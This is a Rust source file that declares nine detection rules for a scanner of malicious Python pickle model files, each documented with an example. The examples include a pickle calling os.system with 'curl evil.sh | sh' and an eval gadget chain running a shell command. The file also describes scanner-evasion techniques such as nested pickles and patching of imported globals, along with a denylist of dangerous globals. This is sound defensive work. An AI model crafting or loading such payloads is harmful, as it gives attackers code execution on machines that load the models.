//! The pickle rules. Each is declared with its documentation; the checks are in
//! `judge.rs`, over the trace of the symbolic machine.

use mlsec_core::{declare_rule, Rule};

declare_rule! {
    /// ## What it does
    /// Flags a pickle that imports a global known to give code execution, file
    /// or network access, or interpreter internals: `os.system`,
    /// `subprocess.Popen`, `builtins.eval`/`exec`/`getattr`/`__import__`,
    /// `runpy`, `importlib`, `pip.main`, `ctypes`, `marshal`, `types.CodeType`,
    /// `operator.attrgetter`, `functools.partial`, `pickle.loads` and many more
    /// (every submodule of a denied module included), or that reaches one
    /// through an attribute path (`torch._utils` + `os.system`, `__globals__`).
    ///
    /// ## Why is this bad?
    /// Unpickling calls whatever the stream names. Loading such a model with
    /// `torch.load`, `joblib.load` or `pickle.load` runs the attacker's command
    /// on the machine that loads it.
    ///
    /// ## Example
    /// ```text
    /// cos
    /// system
    /// (S'curl evil.sh | sh'
    /// tR.
    /// ```
    ///
    /// ## How to fix
    /// Do not load the file. Obtain the model from a trusted source, or a
    /// weights-only format such as safetensors.
    pub const DANGEROUS_GLOBAL = Rule {
        id: "PKL001", name: "dangerous-pickle-global", severity: Critical, category: Malicious,
        summary: "Pickle imports a global that gives code execution or system access",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a global that is neither on the built-in allowlist of model-file
    /// globals nor on the denylist, and that the pickle calls (REDUCE, NEWOBJ,
    /// INST, OBJ, which also reach `__setstate__` through a later BUILD) or
    /// hands to a call as an argument. It is high, so it fails the default
    /// gate (`--fail-on high`) until the global is allowed.
    ///
    /// ## Why is this bad?
    /// Any importable callable runs when the file is loaded. Most unknown
    /// callables are a project's own model classes, but the denylist can never
    /// be complete: new gadgets in popular packages are published every month,
    /// and test helpers of well-known libraries run arbitrary Python when called.
    ///
    /// ## Example
    /// `mypkg.models.Net` constructed via REDUCE in `model.pkl`.
    ///
    /// ## How to fix
    /// If you trust the callable, allow it in `mlsec.toml`:
    /// `[scan] allow = ["mypkg.models.Net"]` (or `"mypkg.*"`). Better, save
    /// weights in safetensors and build the class in code.
    pub const UNKNOWN_CALLABLE = Rule {
        id: "PKL002", name: "unknown-pickle-callable", severity: High, category: Suspicious,
        summary: "Pickle calls a global that is not known to be safe",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a global that is neither allowed nor denied and that the pickle
    /// imports without calling it (for example as a value in a dict).
    ///
    /// ## Why is this bad?
    /// Importing runs the module's import-time code, and the object may be
    /// called later by the code that receives it. It is worth knowing about,
    /// but it is rarely an attack by itself.
    ///
    /// ## Example
    /// `{"activation": mypkg.act.gelu}` pickled by value.
    ///
    /// ## How to fix
    /// Allow it in `mlsec.toml` if you trust it.
    pub const UNKNOWN_IMPORT = Rule {
        id: "PKL003", name: "unknown-pickle-import", severity: Low, category: Suspicious,
        summary: "Pickle imports a global that is not known to be safe",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a call whose callee is not an imported global but a value computed
    /// while loading: the result of another call, an object from the extension
    /// registry, or a global named by a computed value. Also flags container
    /// opcodes (APPEND, SETITEM, ...) applied to a module, class or function,
    /// which call that object's methods.
    ///
    /// ## Why is this bad?
    /// This is how attackers hide behind allowlisted globals: an allowed
    /// function is made to return `eval` (modelscan #330 patches `numpy.size`
    /// so that `numpy.size(f, 'eval')` returns `eval`) and the result is then
    /// called. No denied name ever appears in the stream.
    ///
    /// ## Example
    /// `REDUCE(REDUCE(numpy.size, (f, 'eval')), ('__import__("os").system("id")',))`
    ///
    /// ## How to fix
    /// Do not load the file; real model files never call the result of a call.
    pub const COMPUTED_CALLABLE = Rule {
        id: "PKL004", name: "computed-callable-called", severity: High, category: Malicious,
        summary: "Pickle calls a value computed at load time (gadget chain)",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags BUILD applied to an imported module, class or function rather than
    /// to an object the pickle constructed.
    ///
    /// ## Why is this bad?
    /// BUILD sets attributes (`obj.__dict__.update(state)` or
    /// `obj.__setstate__(state)`). On an imported global it rewrites library
    /// code for the rest of the process: modelscan #85 plants `numpy.prod.a =
    /// 'os'` and later resolves `GLOBAL numpy prod.a` to reach `os`; #330 patches
    /// `numpy.size` to return `eval`.
    ///
    /// ## Example
    /// `GLOBAL numpy prod`, `{'a': 'os'}`, `BUILD`.
    ///
    /// ## How to fix
    /// Do not load the file; model pickles only BUILD objects they created.
    pub const GLOBAL_PATCHED = Rule {
        id: "PKL005", name: "imported-object-patched", severity: High, category: Malicious,
        summary: "Pickle sets attributes on an imported module, class or function",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags STACK_GLOBAL whose module or name is not a literal string but a
    /// value computed while loading (for example a global attribute that a
    /// BUILD planted).
    ///
    /// ## Why is this bad?
    /// The global that is finally imported cannot be read from the file; it is
    /// chosen at load time. Scanners that only look at string operands miss it.
    ///
    /// ## Example
    /// `GLOBAL numpy prod.a` (holding `'os'`), `'system'`, `STACK_GLOBAL`.
    ///
    /// ## How to fix
    /// Do not load the file.
    pub const COMPUTED_GLOBAL = Rule {
        id: "PKL006", name: "computed-global-name", severity: High, category: Malicious,
        summary: "Pickle imports a global whose name is computed at load time",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags the EXT1, EXT2 and EXT4 opcodes, which fetch a global from the
    /// `copyreg` extension registry by number.
    ///
    /// ## Why is this bad?
    /// The global is not named in the file, so it cannot be judged; which global
    /// a code maps to depends on what the loading process registered. Model files
    /// never use the registry.
    ///
    /// ## Example
    /// `\x82\x01` (EXT1 code 1).
    ///
    /// ## How to fix
    /// Re-save the object without extension codes, or do not load the file.
    pub const EXTENSION_REGISTRY = Rule {
        id: "PKL007", name: "pickle-extension-registry", severity: Medium, category: Suspicious,
        summary: "Pickle uses the copyreg extension registry",
    };
}

declare_rule! {
    /// ## What it does
    /// Reports a pickle that cannot be fully read: an unknown opcode, a stack
    /// underflow, truncation, an absurd length, a memo slot read before it was
    /// written, or a resource limit. What was found before the fault is still
    /// reported by the other rules.
    ///
    /// ## Why is this bad?
    /// Loaders execute opcodes one by one, so everything before the fault runs.
    /// Scanners that turn a parse error into "no issues" are the most common
    /// bypass there is (picklescan GHSA-9gvj-pp9x-gcfr, modelscan #348). mlsec
    /// fails closed: the file is never clean.
    ///
    /// ## Example
    /// `\x80\x04h\x07\x93.` (BINGET of memo slot 7 that was never stored).
    ///
    /// ## How to fix
    /// Re-save the model with the library that made it. If the file came from
    /// elsewhere, treat it as hostile.
    pub const MALFORMED = Rule {
        id: "PKL008", name: "malformed-pickle", severity: High, category: Error,
        summary: "Pickle is malformed, so it cannot be fully judged",
    };
}

declare_rule! {
    /// ## What it does
    /// Flags a pickle that calls a loader (`pickle.loads`, `torch.load`,
    /// `dill.loads`, ...) on bytes embedded in the stream, and scans those bytes
    /// as a pickle of their own.
    ///
    /// ## Why is this bad?
    /// A nested pickle hides its payload from scanners that only read the outer
    /// stream (modelscan #267).
    ///
    /// ## Example
    /// `pickle.loads(b'\x80\x04cos\nsystem\n...')`
    ///
    /// ## How to fix
    /// Do not load the file.
    pub const NESTED_PICKLE = Rule {
        id: "PKL009", name: "nested-pickle", severity: Critical, category: Malicious,
        summary: "Pickle loads another pickle embedded in it",
    };
}

pub const RULES: &[Rule] = &[
    DANGEROUS_GLOBAL,
    UNKNOWN_CALLABLE,
    UNKNOWN_IMPORT,
    COMPUTED_CALLABLE,
    GLOBAL_PATCHED,
    COMPUTED_GLOBAL,
    EXTENSION_REGISTRY,
    MALFORMED,
    NESTED_PICKLE,
];
